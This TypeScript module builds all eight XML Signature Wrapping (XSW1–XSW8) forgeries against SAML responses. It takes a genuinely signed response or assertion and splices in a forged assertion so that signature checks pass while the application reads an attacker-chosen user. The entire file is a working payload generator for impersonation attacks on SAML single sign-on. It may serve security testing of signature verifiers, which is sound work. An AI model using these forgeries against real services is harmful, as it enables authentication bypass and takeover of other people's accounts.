/**
 * The eight ways of wrapping a signature (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX
 * Security 2012): the signed element stays in the message for the verifier, but the application reads a forged one.
 */

/** A signed message or element, split around its signature. */
interface Signed {
  readonly head: string
  readonly signature: string
  readonly tail: string
}

const split = (xml: string, at: RegExp): readonly [string, string, string] => {
  const match = at.exec(xml)
  if (match === null) throw new Error(`no ${String(at)} in ${xml}`)
  return [xml.slice(0, match.index), match[0], xml.slice(match.index + match[0].length)]
}

/** @param xml its first signature covers it as a whole */
const aroundSignature = (xml: string): Signed => {
  const [head, signature, tail] = split(xml, /<ds:Signature .*?<\/ds:Signature>/s)
  return { head, signature, tail }
}

const inside = (element: string, name: string, more: string): string => {
  const end = `</${name}>`
  return element.slice(0, -end.length) + more + end
}

/** A way of wrapping, applied. */
export interface Wrapped {
  readonly name: string
  readonly xml: string
}

/** Forges a signed text. */
type Forge = (text: string) => string

/** Whether the forged element's ID differs from the signed one. */
const forgeries = (forge: Forge): readonly (readonly [string, Forge])[] => [
  ['an ID of its own', (text) => forge(text).replace(/ ID="[^"]*"/, ' ID="_forged"')],
  ['the same ID', forge],
]

/**
 * Ways 1 and 2, on a response that is signed as a whole. The forged one has no other signature.
 * @param forge replaces the user
 */
export const wrapResponse = (response: string, forge: Forge): readonly Wrapped[] => {
  const { head, signature, tail } = aroundSignature(response)
  const original = head + tail
  const unsigned = tail.replace(/<ds:Signature .*?<\/ds:Signature>/gs, '')
  return forgeries(forge).flatMap(([id, forged]) => [
    {
      name: `XSW1, ${id}`,
      xml: forged(head) + inside(signature, 'ds:Signature', original) + forge(unsigned),
    },
    { name: `XSW2, ${id}`, xml: forged(head) + original + signature + forge(unsigned) },
  ])
}

/**
 * Ways 3 to 8, on a response in which only the assertion is signed.
 * @param forge replaces the user
 */
export const wrapAssertion = (response: string, forge: Forge): readonly Wrapped[] => {
  const [before, assertion, after] = split(response, /<saml:Assertion .*<\/saml:Assertion>/s)
  const [start, status] = split(before, /<samlp:Status>.*/s)
  const { head, signature, tail } = aroundSignature(assertion)
  const original = head + tail
  return forgeries(forge).flatMap(([id, forged]) => {
    const evil = forged(original)
    const evilAround = (middle: string) => forged(head) + middle + forge(tail)
    const wrapped: Readonly<Record<string, string>> = {
      XSW3: before + evil + assertion + after,
      XSW4: before + inside(evil, 'saml:Assertion', assertion) + after,
      XSW5: before + evilAround(signature) + original + after,
      XSW6: before + evilAround(inside(signature, 'ds:Signature', original)) + after,
      XSW7: `${start}<samlp:Extensions>${evil}</samlp:Extensions>${status}${assertion}${after}`,
      XSW8:
        before + evilAround(inside(signature, 'ds:Signature', `<ds:Object>${original}</ds:Object>`)) + after,
    }
    return Object.entries(wrapped).map(([way, xml]) => ({ name: `${way}, ${id}`, xml }))
  })
}
